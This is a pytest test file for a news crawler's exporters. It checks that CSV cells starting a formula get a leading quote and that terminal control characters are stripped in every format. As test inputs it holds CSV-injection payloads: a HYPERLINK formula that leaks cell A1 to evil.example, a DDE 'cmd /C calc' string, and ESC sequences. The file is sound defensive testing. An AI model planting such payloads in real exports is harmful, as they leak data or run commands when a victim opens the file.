"""Exports cannot attack their reader: no formulas in CSV cells, no control characters anywhere.

OWASP "CSV Injection": a cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage
return is run as a formula by spreadsheets; it gets a leading ``'``.  Control characters
(ESC sequences drive the terminal that prints a title) are removed from every exported
text field in every format; newline and tab stay.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
import pytest_twisted
from conftest import crawl_settings, read_jsonl, run_crawl, site_spider
from scrapy.exporters import JsonItemExporter, JsonLinesItemExporter, XmlItemExporter
from test_crawl_local import article_html, feed_xml

from newscrawl.items import EXPORT_FIELDS, ArticleItem, CsvArticleExporter, clean_text, neutralise_formula

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def hostile_item() -> ArticleItem:
    return ArticleItem(
        url="https://example.com/a/1.html", site="example",
        listing_title="+cmd|' /C calc'!A0", title=HOSTILE_TITLE,
        authors=["@SUM(1+1)", "Jane Doe"], text="\x1b[2J\x1b]0;owned\x07First line\r\nSecond\tline\x00\x85",
        links=[{"text": "-2+3\x1b[31m", "url": "https://example.com/r"}],
        feed_summary="\tindented", published="2024-05-12T08:30:00+02:00",
    )


def export(exporter_cls, item: ArticleItem) -> bytes:
    buf = io.BytesIO()
    exporter = exporter_cls(buf, fields_to_export=list(EXPORT_FIELDS))
    exporter.start_exporting()
    exporter.export_item(item)
    exporter.finish_exporting()
    return buf.getvalue()


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_csv_cells_that_start_a_formula_are_neutralised():
    row = csv_rows(export(CsvArticleExporter, hostile_item()))[0]
    assert row["title"] == "'" + HOSTILE_TITLE
    assert row["listing_title"] == "'+cmd|' /C calc'!A0"
    assert row["authors"] == "'@SUM(1+1); Jane Doe"  # the list joined with "; "
    assert row["feed_summary"] == "'\tindented"
    assert row["url"] == "https://example.com/a/1.html"  # ordinary cells are untouched
    assert row["published"] == "2024-05-12T08:30:00+02:00"
    assert json.loads(row["links"]) == [{"text": "-2+3[31m", "url": "https://example.com/r"}]  # ESC removed


@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), ("Plain title", "Plain title"),
])
def test_neutralise_formula(cell, expected):
    assert neutralise_formula(cell) == expected


def test_control_characters_are_removed_but_newline_and_tab_stay():
    assert clean_text("\x1b[2Jtitle\x07\x00\x7f\x9b") == "[2Jtitle"
    assert clean_text("one\r\ntwo\rthree\tfour\nfive") == "one\ntwo\nthree\tfour\nfive"


@pytest.mark.parametrize("exporter_cls", [JsonLinesItemExporter, JsonItemExporter, XmlItemExporter,
                                          CsvArticleExporter])
def test_every_format_carries_the_same_cleaned_text(exporter_cls):
    data = export(exporter_cls, hostile_item())
    text = data.decode("utf-8")
    assert "\x1b" not in text and "\x07" not in text and "\x00" not in text and "\x85" not in text
    assert "owned" in text  # only the control characters go, not the text around them
    if exporter_cls is JsonLinesItemExporter:
        record = json.loads(data)
        assert record["text"] == "[2J]0;ownedFirst line\nSecond\tline"
        assert record["title"] == HOSTILE_TITLE  # formulas are a CSV matter: JSON keeps the title as is
        assert record["links"][0]["text"] == "-2+3[31m"


def test_csv_appended_to_a_file_with_data_writes_no_second_header(tmp_path):
    path = tmp_path / "out.csv"
    for _ in range(2):
        with path.open("ab") as fh:  # as the feed storage opens it for -o
            exporter = CsvArticleExporter(fh, fields_to_export=list(EXPORT_FIELDS))
            exporter.start_exporting()
            exporter.export_item(hostile_item())
            exporter.finish_exporting()
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    assert rows[0] == list(EXPORT_FIELDS)
    assert len(rows) == 3 and rows[1] == rows[2]


@pytest_twisted.ensureDeferred
async def test_a_crawl_exports_hostile_titles_safely_in_csv_and_jsonl(http_server, tmp_path):
    title = '=HYPERLINK("http://evil.example/","Council budget report")'
    http_server.add("/news/2024/05/1/council-budget.html",
                    article_html(title, extra="<p>Escape \x1b[31mred\x1b[0m text in the article body.</p>"))
    first = http_server.url("/news/2024/05/1/council-budget.html")
    http_server.add("/feed.xml", feed_xml([(first, "-Council budget report")]),
                    headers={"Content-Type": "application/rss+xml"})
    spider = site_spider(feeds=[http_server.url("/feed.xml")])
    out_csv, out_jsonl = tmp_path / "out.csv", tmp_path / "out.jsonl"
    feeds = {str(out_csv): {"format": "csv"}, str(out_jsonl): {"format": "jsonlines"}}
    crawler = await run_crawl(spider, crawl_settings(tmp_path, out_csv, FEEDS=feeds))
    assert crawler.stats.get_value("newscrawl/exported") == 1
    row = csv_rows(out_csv.read_bytes())[0]
    record = read_jsonl(out_jsonl)[0]
    assert row["title"].startswith("'=HYPERLINK(") and record["title"].startswith("=HYPERLINK(")
    assert row["listing_title"] == "'-Council budget report"
    assert "\x1b" not in out_csv.read_text() and "\x1b" not in out_jsonl.read_text()
    assert "red" in record["text"] and "[31m" in record["text"]
    assert row["text"] == record["text"]  # the same cleaned text in both formats

    # A second run appending to the same CSV adds no header line.
    second = http_server.add("/news/2024/05/2/second.html", article_html("Harbour bridge reopens after repairs"))
    http_server.add("/feed.xml", feed_xml([(second, "Harbour bridge reopens after repairs")]),
                    headers={"Content-Type": "application/rss+xml"})
    await run_crawl(spider, crawl_settings(tmp_path, out_csv, FEEDS={str(out_csv): {"format": "csv"}}))
    rows = list(csv.reader(io.StringIO(out_csv.read_text(encoding="utf-8"), newline="")))
    assert [r[0] for r in rows] == ["url", first, second]
